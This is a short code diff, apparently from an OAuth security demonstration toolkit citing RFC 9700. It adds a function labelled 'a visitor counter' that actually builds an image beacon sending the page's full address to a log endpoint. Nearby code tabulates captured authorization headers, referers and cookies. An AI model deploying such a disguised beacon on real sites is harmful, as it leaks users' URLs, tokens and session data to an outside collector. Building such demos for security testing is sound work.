@@ -23,6 +23,11 @@ export function framing(vault) {
   )
 }
 
+/** A visitor counter: one picture, and the address of the page that it stands on. RFC 9700 §4.3.2 */
+export function counter(log) {
+  return `new Image().src = ${JSON.stringify(log)} + '?' + new URLSearchParams({ page: location.href })`
+}
+
 export function logPage(lines) {
   const rows = lines.map(({ method, url, authorization, referer, cookie }) => {
     const cells = [`${method} ${url}`, authorization ?? '', referer ?? '', cookie ?? '']
